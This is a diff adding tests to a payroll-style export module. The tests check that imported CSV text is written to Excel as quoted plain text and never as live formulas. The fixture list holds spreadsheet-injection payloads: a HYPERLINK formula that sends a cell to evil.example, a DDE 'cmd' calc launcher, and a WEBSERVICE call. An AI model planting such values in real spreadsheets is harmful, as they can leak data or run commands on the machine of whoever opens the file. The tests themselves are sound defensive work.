@@ -282,3 +282,71 @@ def test_excel_file_name_carries_the_period():
 def test_empty_excel_has_its_header():
     sheet = load_workbook(io.BytesIO(build_workbook([]))).active
     assert sheet.max_row == 1
+
+
+# Text that a spreadsheet would run as a formula (or a DDE command) if written as one.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    '=WEBSERVICE("http://evil.example")',
+    "\t=1",
+    "\r=1",
+    "=1\x07",  # a control character openpyxl would refuse outright
+]
+
+
+def _check_text_cells(data: bytes) -> None:
+    sheet = load_workbook(io.BytesIO(data)).active
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", (cell.coordinate, cell.value)
+            if isinstance(cell.value, str):
+                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+
+
+def test_imported_formulas_are_exported_as_plain_text(two_employers):
+    _, a, _ = two_employers
+    quoted = ['"' + text.replace('"', '""') + '"' for text in FORMULAS[:5]]
+    lines = [
+        f"{SIRET_A};0{i + 1}/10/2019;TP-{i};{name};{name};{name};90000{i};10;01/09/2019;30/09/2019;1 234,5{i}"
+        for i, name in enumerate(quoted)
+    ]
+    report = reglement_import.import_reglements(csv_bytes(*lines))
+    assert report.ok, report.lines()
+    found = reglements.search(a)
+    # The stored data is what was imported: the export alone makes it harmless.
+    assert sorted(line.formation for line in found) == sorted(FORMULAS[:5])
+    data = build_workbook(found)
+    sheet = load_workbook(io.BytesIO(data)).active
+    rows = [row for row in sheet.iter_rows(min_row=2) if isinstance(row[0].value, datetime)]
+    assert len(rows) == 5
+    for row in rows:
+        assert row[3].value in FORMULAS and row[3].data_type == "s"
+        assert row[2].value.upper() == f"{row[3].value} {row[3].value}".upper() and row[2].data_type == "s"
+        # Amounts and hours stay numbers, dates stay dates.
+        assert isinstance(row[8].value, float) and row[8].data_type == "n"
+        assert isinstance(row[5].value, (int, float)) and row[5].data_type == "n"
+        assert all(isinstance(row[i].value, datetime) for i in (0, 6, 7))
+    _check_text_cells(data)
+
+
+def test_every_text_cell_of_the_export_is_text():
+    base = _lines()[0]
+    lines = [
+        Line(
+            i, text, base.paid_on, text, text, text, base.hours, base.period_start, base.period_end, base.amount, False
+        )
+        for i, text in enumerate(FORMULAS)
+    ]
+    data = build_workbook(lines)
+    _check_text_cells(data)
+    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, max_row=len(FORMULAS) + 1))
+    # Dossier, beneficiary, training and number: the original text, a control character shown as "?"
+    # (and a CR read back as LF, as any XML parser reads it).
+    shown = sorted(text.replace("\x07", "?").replace("\r", "\n") for text in FORMULAS)
+    assert sorted(row[1].value for row in rows) == shown
+    for row in rows:
+        assert row[1].value == row[2].value == row[3].value == row[4].value
+        assert isinstance(row[0].value, datetime) and isinstance(row[8].value, float)
